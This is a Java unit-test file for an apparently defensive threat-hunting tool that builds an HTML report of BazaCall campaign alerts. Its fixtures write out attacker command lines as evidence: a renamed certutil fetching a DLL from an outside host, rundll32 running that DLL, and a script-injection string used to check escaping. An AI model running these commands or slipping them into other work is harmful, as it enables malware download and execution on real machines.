package dev.bazahunt.job.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bazahunt.job.BazahuntCli;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The hunt report, read back with an HTML parser: what an analyst sees on the page. */
class HuntReportTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String CERTUTIL = "f5ff5b00-a90e-40b8-b241-9427a8ec5189";
    private static final String CORRELATION = "6115fe87-e990-4ade-b52f-b35ebea0864d";
    private static final String INCIDENT = "2a3ad1a6-46c5-4d36-bd99-08e07db7f0f1";
    private static final String WKS_0142 = "b2c4e6a8f0123456789abcdef0123456789abcde";
    private static final String WKS_0911 = "c3d5e7f9a1b2c3d4e5f60718293a4b5c6d7e8f90";
    private static final String SRV_DC1 = "0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f607182930";

    @TempDir
    Path temp;

    @Test
    void thePageCountsTheLatestRevisionOfEachAlertByRuleAndByDay() throws Exception {
        Document page = report(alertLines());

        assertThat(rows(page, "#by-rule tbody tr", "data-rule-id")).containsExactly(
                CERTUTIL + "=3", INCIDENT + "=2", CORRELATION + "=1");
        assertThat(rows(page, "#by-day tbody tr", "data-day")).containsExactly("2021-07-20=5", "2021-07-21=1");
        assertThat(page.selectFirst("#total-revisions b").text()).as("every revision read").isEqualTo("8");
        assertThat(page.selectFirst("#total-incidents b").text()).isEqualTo("2");
    }

    @Test
    void devicesAreRankedByTheStagesOfTheirIncident() throws Exception {
        Document page = report(alertLines());

        List<String> ranked = new ArrayList<>();
        for (Element row : page.select("#devices tbody tr")) {
            ranked.add(row.attr("data-device-id") + " " + row.selectFirst("td.stages").text());
        }
        assertThat(ranked).containsExactly(WKS_0142 + " 4 / 7", WKS_0911 + " 2 / 7", SRV_DC1 + " 0 / 7");
    }

    @Test
    void eachIncidentDrawsTheChainWithItsSeenStagesAndTheirEvidence() throws Exception {
        Document page = report(alertLines());

        List<Element> incidents = page.select("section.incident");
        assertThat(incidents).extracting(section -> section.attr("data-device-id")).containsExactly(WKS_0142, WKS_0911);
        Element wks0142 = incidents.get(0);
        assertThat(wks0142.select("ol.timeline li").eachAttr("data-stage")).containsExactly("email-lure",
                "excel-delivery", "excel-macro", "certutil-download", "bazaloader-c2", "credential-theft", "exfiltration");
        assertThat(wks0142.select("ol.timeline li").eachText()).containsExactly("Email not seen",
                "Excel 07-20 14:01:12", "cmd copy 07-20 14:02:47", "Renamed certutil download 07-20 14:02:58",
                "rundll32 07-20 14:03:32", "ntdsutil not seen", "rclone not seen");
        assertThat(wks0142.select("ol.timeline li.seen").eachAttr("data-stage"))
                .as("the latest revision (4 stages), not the first (2)")
                .containsExactly("excel-delivery", "excel-macro", "certutil-download", "bazaloader-c2");
        assertThat(wks0142.select(".evidence").eachAttr("data-stage"))
                .containsExactly("excel-delivery", "excel-macro", "certutil-download", "bazaloader-c2");
        assertThat(wks0142.select(".evidence[data-stage=certutil-download] dd.ProcessCommandLine").text())
                .isEqualTo("x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php"
                        + " C:\\Users\\Public\\x8k2\\tmp1834.dll");
        assertThat(wks0142.select(".evidence[data-stage=excel-delivery] dd.Url").text())
                .isEqualTo("https://bomovie.net/cancel.php");
        assertThat(wks0142.selectFirst(".sev").text()).isEqualTo("High");
        assertThat(wks0142.selectFirst(".email-join").text()).contains("no lure email to j.doe@contoso.com");
        assertThat(incidents.get(1).selectFirst(".sev").text()).isEqualTo("Medium");
    }

    @Test
    void thePageIsSelfContainedAndShowsAttackerTextAsText() throws Exception {
        Document page = report(alertLines());

        assertThat(page.select("script, link, iframe, object, embed, img, [src], [href]")).isEmpty();
        assertThat(page.select("style").html()).doesNotContain("url(", "@import");
        assertThat(page.select(".evidence[data-stage=bazaloader-c2] dd.ProcessCommandLine").text())
                .isEqualTo("rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut <script>alert(1)</script>");
    }

    @Test
    void linesThatAreNotAlertsAreListedWithTheirLineNumber() throws Exception {
        List<String> lines = new ArrayList<>(alertLines());
        lines.add("");
        lines.add("{\"AlertId\": \"broken");
        lines.add("{\"Hello\": 1}");
        ByteArrayOutputStream stderr = new ByteArrayOutputStream();

        Document page = report(lines, stderr);

        assertThat(page.select("#skipped li").eachText()).hasSize(2)
                .anySatisfy(text -> assertThat(text).startsWith("line 10: not JSON"))
                .contains("line 11: not an alert (no AlertId and Revision)");
        assertThat(stderr.toString(StandardCharsets.UTF_8)).contains("skipped line 10: not JSON");
    }

    @Test
    void replaysOutputOfTheFullChainDrawsEveryStepOfTheIncident() throws Exception {
        List<String> alerts = dev.bazahunt.job.replay.ReplayHarness.replay(
                List.of(dev.bazahunt.job.replay.ReplayHarness.TESTDATA.resolve("campaign")),
                java.time.Duration.ofMinutes(30), 2).alerts();

        Document page = report(alerts);

        Element incident = page.selectFirst("section.incident");
        assertThat(page.select("section.incident")).hasSize(1);
        assertThat(incident.attr("data-device-id")).isEqualTo("7d1f3b5a9c2e4068a1b3c5d7e9f0a2b4c6d8e0f1");
        assertThat(incident.select("ol.timeline li.seen")).hasSize(7);
        assertThat(incident.select("ol.timeline li.missing")).isEmpty();
        assertThat(incident.select(".evidence[data-stage=email-lure] dd.Subject").text())
                .isEqualTo("Your free trial KMR230041186 is about to end! Premium membership renewal notice");
        assertThat(incident.select(".evidence[data-stage=credential-theft] dd.ProcessCommandLine").text())
                .startsWith("ntdsutil.exe");
        assertThat(incident.select(".evidence[data-stage=exfiltration] dd.FileName").text()).isEqualTo("svchost64.exe");
        assertThat(page.select("#devices tbody tr td.stages").first().text()).isEqualTo("7 / 7");
    }

    @Test
    void aMissingInputIsABadCommandLine() throws Exception {
        ByteArrayOutputStream stderr = new ByteArrayOutputStream();
        int code = BazahuntCli.run(new String[] {"report", "--input", temp.resolve("none.jsonl").toString(),
                "--output", temp.resolve("hunt.html").toString()}, new PrintStream(new ByteArrayOutputStream()),
                new PrintStream(stderr, true, StandardCharsets.UTF_8));

        assertThat(code).isEqualTo(2);
        assertThat(stderr.toString(StandardCharsets.UTF_8)).contains("--input").contains("no such readable file");
        assertThat(temp.resolve("hunt.html")).doesNotExist();
    }

    private Document report(List<String> lines) throws Exception {
        return report(lines, new ByteArrayOutputStream());
    }

    private Document report(List<String> lines, ByteArrayOutputStream stderr) throws Exception {
        Path input = Files.write(temp.resolve("alerts.jsonl"), lines, StandardCharsets.UTF_8);
        Path output = temp.resolve("out/hunt.html");
        int code = BazahuntCli.run(new String[] {"report", "--input", input.toString(), "--output", output.toString()},
                new PrintStream(new ByteArrayOutputStream()), new PrintStream(stderr, true, StandardCharsets.UTF_8));
        assertThat(code).isZero();
        return Jsoup.parse(output.toFile(), "UTF-8");
    }

    private static List<String> rows(Document page, String selector, String key) {
        List<String> rows = new ArrayList<>();
        for (Element row : page.select(selector)) {
            rows.add(row.attr(key) + "=" + row.selectFirst("td.count").text());
        }
        return rows;
    }

    /**
     * Three devices, as an alerts topic holds them: wks-0142's incident in two revisions (2 stages,
     * then 4), one of them behind a console consumer's key; wks-0911's two-stage incident; a base
     * alert on a domain controller the day after.
     */
    private static List<String> alertLines() {
        String certutilA = "0b6f0d1e-8c71-3c55-9a1e-4a1f6f1f0001";
        String incidentA = "5d0c1d2b-0e6b-3f4e-8f51-2a6f0f000001";
        List<String> lines = new ArrayList<>();
        lines.add(alert(certutilA, 1, CERTUTIL, "Dropping payload via certutil", "Medium", WKS_0142,
                "wks-0142.contoso.local", "2021-07-20T14:02:58.1034567Z"));
        lines.add(alert("0b6f0d1e-8c71-3c55-9a1e-4a1f6f1f0002", 1, CORRELATION,
                "BazaCall certutil download tied to Excel macro activity", "High", WKS_0142, "wks-0142.contoso.local",
                "2021-07-20T14:02:58.1034567Z"));
        ObjectNode first = incident(incidentA, 1, WKS_0142, "wks-0142.contoso.local", "Medium");
        stage(first, "excel-macro", "2021-07-20T14:02:47.0000000Z", "cmd.exe",
                "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe x8k2.exe", null);
        stage(first, "certutil-download", "2021-07-20T14:02:58.1034567Z", "x8k2.exe",
                "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll",
                null);
        lines.add(first.toString());
        ObjectNode latest = incident(incidentA, 2, WKS_0142, "wks-0142.contoso.local", "High");
        stage(latest, "excel-delivery", "2021-07-20T14:01:12.2500000Z", "msedge.exe", null,
                "https://bomovie.net/cancel.php");
        stage(latest, "excel-macro", "2021-07-20T14:02:47.0000000Z", "cmd.exe",
                "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe x8k2.exe", null);
        stage(latest, "certutil-download", "2021-07-20T14:02:58.1034567Z", "x8k2.exe",
                "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll",
                null);
        stage(latest, "bazaloader-c2", "2021-07-20T14:03:32.5000000Z", "rundll32.exe",
                "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut <script>alert(1)</script>",
                "pshe0pxe339.xyz");
        lines.add(WKS_0142 + "\t" + latest);
        lines.add(alert("0b6f0d1e-8c71-3c55-9a1e-4a1f6f1f0003", 1, CERTUTIL, "Dropping payload via certutil", "Medium",
                WKS_0911, "wks-0911.contoso.local", "2021-07-20T16:40:00.0000000Z"));
        ObjectNode other = incident("5d0c1d2b-0e6b-3f4e-8f51-2a6f0f000002", 1, WKS_0911, "wks-0911.contoso.local",
                "Medium");
        stage(other, "excel-macro", "2021-07-20T16:39:50.0000000Z", "cmd.exe", "cmd.exe /c mkdir x && copy certutil.exe",
                null);
        stage(other, "certutil-download", "2021-07-20T16:40:00.0000000Z", "p.exe", "p.exe -urlcache -split -f http://a/b",
                null);
        lines.add(other.toString());
        lines.add(alert("0b6f0d1e-8c71-3c55-9a1e-4a1f6f1f0004", 1, CERTUTIL, "Dropping payload via certutil", "Medium",
                SRV_DC1, "srv-dc1.contoso.local", "2021-07-21T03:10:00.0000000Z"));
        // The first revision again, re-delivered after a restart: the higher revision still wins.
        lines.add(first.toString());
        return lines;
    }

    private static String alert(String id, int revision, String ruleId, String ruleName, String severity, String device,
            String deviceName, String timestamp) {
        ObjectNode alert = JSON.createObjectNode();
        alert.put("AlertId", id);
        alert.put("Revision", revision);
        alert.put("RuleId", ruleId);
        alert.put("RuleName", ruleName);
        alert.put("Severity", severity);
        alert.put("Timestamp", timestamp);
        alert.put("DeviceId", device);
        alert.put("DeviceName", deviceName);
        return alert.toString();
    }

    private static ObjectNode incident(String id, int revision, String device, String deviceName, String severity) {
        ObjectNode incident = (ObjectNode) read(alert(id, revision, INCIDENT, "BazaCall campaign incident", severity,
                device, deviceName, "2021-07-20T14:01:12.2500000Z"));
        incident.put("Campaign", "BazaCall");
        incident.put("FirstSeen", "2021-07-20T14:01:12.2500000Z");
        incident.put("LastSeen", "2021-07-20T14:03:32.5000000Z");
        incident.putArray("Stages");
        ObjectNode join = incident.putObject("EmailJoin");
        join.putArray("Accounts").add("j.doe@contoso.com");
        join.put("Reason", "no lure email to j.doe@contoso.com within 48h before one of the device's hits");
        return incident;
    }

    private static void stage(ObjectNode incident, String name, String firstSeen, String fileName, String commandLine,
            String url) {
        ArrayNode stages = (ArrayNode) incident.get("Stages");
        ObjectNode stage = stages.addObject();
        stage.put("Stage", name);
        stage.put("FirstSeen", firstSeen);
        stage.put("LastSeen", firstSeen);
        stage.putArray("AlertIds").add("9e0a" + name.length());
        ObjectNode hit = stage.putArray("Hits").addObject();
        hit.put("Timestamp", firstSeen);
        hit.put("AlertId", "9e0a" + name.length());
        hit.put("RuleName", name);
        hit.put("FileName", fileName);
        if (commandLine != null) {
            hit.put("ProcessCommandLine", commandLine);
        }
        if (url != null) {
            hit.put("Url", url);
        }
        incident.put("StageCount", stages.size());
    }

    private static com.fasterxml.jackson.databind.JsonNode read(String json) {
        try {
            return JSON.readTree(json);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
